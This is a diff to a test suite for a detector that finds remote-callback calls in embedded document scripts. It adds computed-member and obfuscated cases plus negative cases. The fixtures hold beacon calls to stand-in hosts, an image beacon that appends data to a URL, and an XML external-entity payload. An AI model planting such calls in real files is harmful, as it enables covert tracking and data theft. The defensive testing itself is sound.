@@ -29,6 +29,14 @@ describe("findCallbackCalls", () => {
     ['navigator.sendBeacon("https://collect.example/b", data);', "navigator.sendBeacon", "network", "https://collect.example/b"],
     ['this.insertPages({ nPage: 0, cPath: "\\\\\\\\files.example\\\\share\\\\cover.pdf" });', "insertPages (remote)", "file", "\\\\files.example\\share\\cover.pdf"],
     ['this.addWatermarkFromFile({ cDIPath: "//files.example/share/mark.pdf" });', "addWatermarkFromFile (remote)", "file", "//files.example/share/mark.pdf"],
+    // computed members, as obfuscators and generators write them
+    ['this["getURL"]("http://example.com/p");', "getURL", "network", "http://example.com/p"],
+    ["app['launchURL'] ('https://example.com/t', true);", "app.launchURL", "network", "https://example.com/t"],
+    ['app["media"]["getURLData"]("https://track.example/a.mp3", "audio/mp3");', "app.media.getURLData", "network", "https://track.example/a.mp3"],
+    ['SOAP["connect"]("https://svc.example/soap?wsdl");', "SOAP", "network", "https://svc.example/soap?wsdl"],
+    ['XMLData[ "parse" ]("<!DOCTYPE r [<!ENTITY e SYSTEM \'http://collect.example/e\'>]><r>&e;</r>", true);', "XMLData.parse (external entity)", "network", "http://collect.example/e"],
+    ['window["fetch"]("https://collect.example/f");', "fetch (remote)", "network", "https://collect.example/f"],
+    ['var img = new Image(1,1); img.src = "https://collect.example/p.gif?d=" + x;', "Image.src (remote)", "network", "https://collect.example/p.gif?d="],
   ])("finds %s", (script, api, role, target) => {
     const calls = findCallbackCalls(script, defaultBudget());
     expect(calls).toHaveLength(1);
@@ -47,6 +55,8 @@ describe("findCallbackCalls", () => {
     expect(findCallbackCalls('XMLData.parse("<r><a>1</a></r>", false); var v = fetch("amount"); cache.fetch("https://x.example/");', defaultBudget())).toEqual([]);
     expect(findCallbackCalls("mySubmitFormHelper(); var submitFormLabel = 1;", defaultBudget())).toEqual([]);
     expect(findCallbackCalls('var help = "call submitForm later";', defaultBudget())).toEqual([]);
+    // an image from the document's own folder, a comparison, a computed name that is not called
+    expect(findCallbackCalls('img.src = "logo.png"; if (img.src == "https://cdn.example/a.png") n++; var f = this["getURL"];', defaultBudget())).toEqual([]);
   });
 });
 
